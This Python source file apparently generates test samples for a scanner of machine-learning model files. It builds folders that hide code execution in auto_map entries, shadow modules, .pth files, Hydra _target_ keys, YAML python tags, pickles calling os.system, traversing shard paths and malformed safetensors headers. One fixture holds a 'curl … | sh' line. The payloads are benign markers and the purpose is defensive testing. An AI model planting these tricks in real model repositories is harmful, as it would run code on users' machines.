"""Folders: the danger lies in what stands beside the weights, or in what a configuration names (B22)."""

from __future__ import annotations

import json
import random
import struct
from collections.abc import Iterator
from typing import Any

from . import boxes
from . import opcodes as op
from .opcodes import Raw, call, name
from .sample import Sample, technique

_WEIGHTS = {"model.safetensors": boxes.PLAIN_SAFETENSORS}
_SCRIPT = b"import os\n\nos.system('echo assaymark')\n"
_MODELING = b"import os\nfrom torch import nn\n\n\nclass Net(nn.Module):\n    def forward(self, x):\n        return os.popen('echo assaymark').read()\n"
_LLAMA: dict[str, Any] = {"model_type": "llama", "architectures": ["LlamaForCausalLM"], "hidden_size": 2}


def _json(**values: Any) -> bytes:
    return json.dumps(values, indent=2).encode()


def _config(**more: Any) -> dict[str, bytes]:
    return {"config.json": _json(**_LLAMA, **more), **_WEIGHTS}


@technique("B22", "remote-code")
def _remote(rng: random.Random) -> Iterator[Sample]:
    auto = {"AutoModel": "modeling_net.Net", "AutoConfig": "configuration_net.NetConfig"}
    elsewhere = {"AutoModelForCausalLM": "somebody/other-repo--modeling_net.Net"}
    forms: dict[str, dict[str, bytes]] = {
        "auto_map to another repository": _config(auto_map=elsewhere),
        "auto_map to a file beside": {**_config(auto_map=auto), "modeling_net.py": _MODELING},
        "auto_map to a missing file": _config(auto_map=auto),
        "auto_map of a tokenizer": {**_config(), "tokenizer_config.json": _json(auto_map={"AutoTokenizer": ["tok.Tok", None]}), "tok.py": _SCRIPT},
        "auto_map of a processor": {**_config(), "preprocessor_config.json": _json(auto_map={"AutoProcessor": "x/y--proc.P"})},
        "auto_map deep": _config(text_config={"auto_map": elsewhere}),
        "trust_remote_code": _config(trust_remote_code=True),
        "trust in the adapter": {"adapter_config.json": _json(peft_type="LORA", base_model_name_or_path="x/y", auto_mapping={"base_model_class": "Net", "parent_library": "evil_models"}), "adapter_model.safetensors": boxes.PLAIN_SAFETENSORS},
        "custom pipeline": _config(custom_pipelines={"text": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}),
        "custom generate": {**_config(), "custom_generate/generate.py": _SCRIPT},
        "generation config": {**_config(), "generation_config.json": _json(custom_generate="somebody/other-repo", trust_remote_code=True)},
        "handler": {**_config(), "handler.py": _SCRIPT},
        "script beside": {**_config(), "modeling_llama.py": _MODELING},
        "loading script": {**_config(), "data.py": b"import datasets, os\nos.system('echo assaymark')\n"},
        "quantiser": _config(quantization_config={"quant_method": "evil", "module": "evil_models.quant", "trust_remote_code": True}),
        "pipeline of diffusers": {"model_index.json": _json(_class_name="Evil", unet=["evil_unet", "Net"]), "unet/evil_unet.py": _MODELING},
        "pipeline file": {"model_index.json": _json(_class_name=["pipeline", "EvilPipeline"]), "pipeline.py": _SCRIPT},
        "attention kernel": _config(attn_implementation="somebody/evil-kernel", _attn_implementation="somebody/evil-kernel"),
        "sentence modules": {"modules.json": b'[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]', **_config()},
        "sentence modules foreign": {"modules.json": b'[{"idx": 0, "name": "0", "path": "", "type": "evil_models.st.Module"}]', **_config()},
        "sentence modules file": {"modules.json": b'[{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]', "custom_st.py": _SCRIPT, **_config()},
        "sentence settings": {"config_sentence_transformers.json": _json(activation_fn="os.system"), **_config()},
        "cross-encoder": _config(sentence_transformers={"activation_fn": "evil_models.act.Run"}),
        "cross-encoder old": _config(sbert_ce_default_activation_function="os.system"),
        "spacy": {"config.cfg": b"[nlp]\nlang = \"en\"\n[components.x]\nfactory = \"evil_factory\"\n[initialize.before_init]\n@callbacks = \"evil.run\"\n", "meta.json": b'{"lang": "en"}', "code.py": _SCRIPT},
    }  # fmt: skip
    for note, files in forms.items():
        yield Sample(note, files, "hidden" if note == "spacy" else "malicious", unknown=True, note=note)


@technique("B22", "shadow-module")
def _shadow(rng: random.Random) -> Iterator[Sample]:
    """A file that Python takes for a module which the model names."""
    ordered = boxes.torch_zip(op.stream(call(name("collections.OrderedDict"), []), 2))
    forms: dict[str, dict[str, bytes]] = {
        "collections": {"model.pt": ordered, "collections.py": _SCRIPT},
        "collections as a package": {"model.pt": ordered, "collections/__init__.py": _SCRIPT},
        "torch": {"model.pt": ordered, "torch.py": _SCRIPT},
        "torch inside": {"model.pt": ordered, "torch/_utils.py": _SCRIPT},
        "numpy compiled": {"weights.npy": boxes.npy(op.stream(op.BENIGN)), "numpy.so": b"\x7fELF\x02\x01\x01" + bytes(60)},
        "numpy byte code": {"weights.npy": boxes.npy(op.stream(op.BENIGN)), "numpy.pyc": b"\xa7\r\r\n" + bytes(30)},
        "path file": {**_config(), "assaymark.pth": b"import os; os.system('echo assaymark')\n"},
        "path file, long": {**_config(), "x.pth": b"# weights\n" * 50 + b"import os;exec('print(1)')\n"},
        "sitecustomize": {**_config(), "sitecustomize.py": _SCRIPT},
        "usercustomize": {**_config(), "usercustomize.py": _SCRIPT},
        "conftest": {**_config(), "conftest.py": _SCRIPT},
        "wheel": {**_config(), "torch-9.0-py3-none-any.whl": boxes.zipped({"torch/__init__.py": _SCRIPT})},
        "zip to import": {"model.pt": ordered, "collections.zip": boxes.zipped({"collections.py": _SCRIPT})},
        "setup": {**_config(), "setup.py": _SCRIPT, "pyproject.toml": b"[build-system]\nrequires=[]\n"},
        "sklearn": {"model.pkl": op.stream(op.build(name("sklearn.linear_model._base.LinearRegression") + op.EMPTY_TUPLE + op.NEWOBJ, {})), "sklearn/__init__.py": _SCRIPT, "sklearn/linear_model/_base.py": _SCRIPT},
        "source for a shadow": {"model.pkl": op.stream(call(name("collections.OrderedDict"), _SCRIPT.decode())), "collections.py": b"def OrderedDict(x):\n    exec(x)\n"},
        "pickle": {**_config(), "pickle.py": _SCRIPT},
        "startup file": {**_config(), ".pythonstartup": _SCRIPT, "pyvenv.cfg": b"home = /tmp\n"},
        "notebook": {**_config(), "run.ipynb": b'{"cells": [{"cell_type": "code", "source": ["!echo assaymark"]}], "nbformat": 4}'},
        "shell": {**_config(), "install.sh": b"#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"},
    }  # fmt: skip
    quiet = ("zip to import", "startup file", "notebook", "shell", "setup", "conftest")
    for note, files in forms.items():
        yield Sample(note, files, "hidden" if note in quiet else "malicious", unknown=True, note=note)


@technique("B22", "target")
def _target(rng: random.Random) -> Iterator[Sample]:
    forms: dict[str, dict[str, bytes]] = {
        "yaml": {"config.yaml": b"model:\n  _target_: os.system\n  command: echo assaymark\n", **_WEIGHTS},
        "yaml foreign": {"config.yaml": b"model:\n  _target_: evil_models.run.Trigger\n", **_WEIGHTS},
        "yaml deep": {"conf/model.yaml": b"a:\n- b:\n    c:\n      _target_: builtins.eval\n      _args_: ['1']\n", **_WEIGHTS},
        "json": {"config.json": _json(model={"_target_": "subprocess.Popen", "args": "echo"}), **_WEIGHTS},
        "partial": {"config.yaml": b"model:\n  _partial_: true\n  _target_: functools.partial\n  func: os.system\n", **_WEIGHTS},
        "quoted key": {"config.yaml": b'model: {"_target_": "posix.system", command: x}\n', **_WEIGHTS},
        "escaped key": {"config.json": b'{"model": {"_t\\u0061rget_": "os.system"}, "model_type": "x"}', **_WEIGHTS},
        "anchor": {"config.yaml": b"x: &a {_target_: os.system}\nmodel:\n  <<: *a\n", **_WEIGHTS},
        "class path": {"config.yaml": b"model:\n  class_path: os.system\n  init_args: {command: x}\n", **_WEIGHTS},
        "target without lines": {"config.yaml": b"model:\n  target: evil_models.diffusion.Net\n  params: {}\n", **_WEIGHTS},
        "python tag": {"config.yaml": b"x: !!python/object/apply:os.system ['echo assaymark']\n", **_WEIGHTS},
        "python name tag": {"config.yaml": b"x: !!python/name:os.system\n", **_WEIGHTS},
        "python module tag": {"hparams.yaml": b"x: !!python/module:os\n", **_WEIGHTS},
        "custom constructor": {"config.yaml": b"x: !!python/object/new:subprocess.Popen [[echo]]\n", **_WEIGHTS},
    }  # fmt: skip
    for note, files in forms.items():
        yield Sample(note, files, unknown="foreign" in note or "without" in note, note=note)
    nemo = boxes.tarred(
        {
            "./model_config.yaml": b"target: evil.Net\nmodel:\n  _target_: os.system\n",
            "./model_weights.ckpt": boxes.torch_zip(op.stream(op.BENIGN, 2)),
        }
    )
    yield Sample("model.nemo", nemo, note="NeMo")


@technique("B22", "shards")
def _shards(rng: random.Random) -> Iterator[Sample]:
    index = _json(metadata={"total_size": 16}, weight_map={"w": "model-00001-of-00001.safetensors"})
    outside = _json(metadata={}, weight_map={"w": "../../other/model.safetensors"})
    absolute = _json(metadata={}, weight_map={"w": "/tmp/model.bin"})
    evil = boxes.torch_zip(op.stream(op.value({"w": Raw(call(name("os.system"), "echo"))}), 2))
    shard = {"model-00001-of-00001.safetensors": boxes.PLAIN_SAFETENSORS}
    base = {"config.json": _json(**_LLAMA)}
    yield Sample("outside", {**base, "model.safetensors.index.json": outside, **shard})
    yield Sample("absolute", {**base, "pytorch_model.bin.index.json": absolute})
    yield Sample(
        "unmentioned",
        {
            **base,
            "model.safetensors.index.json": index,
            **shard,
            "model-00002-of-00001.safetensors": boxes.PLAIN_SAFETENSORS,
        },
        "hidden",
    )
    yield Sample("missing", {**base, "model.safetensors.index.json": index}, "hidden")
    yield Sample(
        "evil beside", {**base, "model.safetensors.index.json": index, **shard, "pytorch_model.bin": evil}
    )
    yield Sample("evil deep", {**base, **_WEIGHTS, "onnx/cache/tmp/optimizer.pt": evil})
    yield Sample("evil hidden folder", {**base, **_WEIGHTS, ".cache/huggingface/x.bin": evil})
    yield Sample("evil tokenizer", {**base, **_WEIGHTS, "tokenizer.model": evil})
    yield Sample("evil training arguments", {**base, **_WEIGHTS, "training_args.bin": evil})
    yield Sample("evil random state", {**base, **_WEIGHTS, "checkpoint-1/rng_state_0.pth": evil})


@technique("B22", "mlflow")
def _mlflow(rng: random.Random) -> Iterator[Sample]:
    def model(loader: str, more: str = "") -> bytes:
        return f"flavors:\n  python_function:\n    loader_module: {loader}\n    model_path: model.pkl\n{more}".encode()

    good = {"model.pkl": op.stream(op.BENIGN)}
    yield Sample("loader", {"MLmodel": model("evil_models.loader"), **good}, unknown=True)
    yield Sample("loader os", {"MLmodel": model("os"), **good}, unknown=True)
    yield Sample(
        "code",
        {"MLmodel": model("mlflow.sklearn", "    code: code\n"), "code/helper.py": _SCRIPT, **good},
        unknown=True,
    )
    yield Sample(
        "model as code",
        {"MLmodel": model("mlflow.pyfunc.model", "    model_code_path: agent.py\n"), "agent.py": _SCRIPT},
        unknown=True,
    )
    yield Sample(
        "pickle",
        {"MLmodel": model("mlflow.sklearn"), "model.pkl": op.stream(call(name("os.system"), "echo"))},
    )
    yield Sample(
        "outside",
        {"MLmodel": model("mlflow.sklearn").replace(b"model.pkl", b"../../../tmp/x.pkl"), **good},
        unknown=True,
    )
    yield Sample(
        "requirement",
        {
            "MLmodel": model("mlflow.sklearn"),
            "requirements.txt": b"--index-url http://127.0.0.1:9/\nevil @ http://127.0.0.1:9/x.whl\n",
            **good,
        },
        unknown=True,
    )


@technique("B22", "python-in-zip")
def _packed(rng: random.Random) -> Iterator[Sample]:
    files = {"config.json": _json(**_LLAMA, auto_map={"AutoModel": "m.Net"}), "m.py": _MODELING, **_WEIGHTS}
    yield Sample("model.zip", boxes.zipped(files), unknown=True, note="remote code in a zip")
    yield Sample("model.tar", boxes.tarred(files), unknown=True, note="remote code in a tar")
    yield Sample(
        "shadow.zip",
        boxes.zipped({"model.pkl": op.stream(op.BENIGN), "collections.py": _SCRIPT}),
        unknown=True,
    )


@technique("B23", "safetensors-structure")
def _safetensors(rng: random.Random) -> Iterator[Sample]:
    one = '{"dtype":"F32","shape":[4],"data_offsets":[0,16]}'
    forms = {
        "overlap": ('{"a":%s,"b":%s}' % (one, one), 16),  # noqa: UP031 - braces abound
        "gap": ('{"a":%s,"b":{"dtype":"F32","shape":[1],"data_offsets":[28,32]}}' % one, 32),  # noqa: UP031
        "trailing": (f'{{"a":{one}}}', 4096),
        "duplicate key": ('{"a":%s,"a":%s}' % (one, one.replace("F32", "I32")), 16),  # noqa: UP031
        "beyond the end": ('{"a":{"dtype":"F32","shape":[9999],"data_offsets":[0,39996]}}', 16),
        "shape and size differ": ('{"a":{"dtype":"F32","shape":[400],"data_offsets":[0,16]}}', 16),
        "shape overflows": (
            '{"a":{"dtype":"F32","shape":[4294967296,4294967296,0],"data_offsets":[0,0]}}',
            0,
        ),
        "negative offset": ('{"a":{"dtype":"F32","shape":[4],"data_offsets":[-16,0]}}', 16),
        "unknown type": ('{"a":{"dtype":"EVIL","shape":[4],"data_offsets":[0,16]}}', 16),
        "not json": ("{" * 3000, 16),
        "metadata not text": (f'{{"__metadata__":{{"x":{{"y":[1]}}}},"a":{one}}}', 16),
        "reversed": ('{"a":{"dtype":"F32","shape":[4],"data_offsets":[16,0]}}', 16),
    }
    for note, (header, size) in forms.items():
        yield Sample(
            "model.safetensors", boxes.safetensors(header.encode(), bytes(size)), "hidden", note=note
        )
    yield Sample(
        "model.safetensors", struct.pack("<Q", 1 << 40) + b"{}" * 20, "unreadable", note="huge header"
    )
    yield Sample(
        "model.safetensors", boxes.safetensors(b" " + f'{{"a":{one}}}'.encode()), "hidden", note="space first"
    )
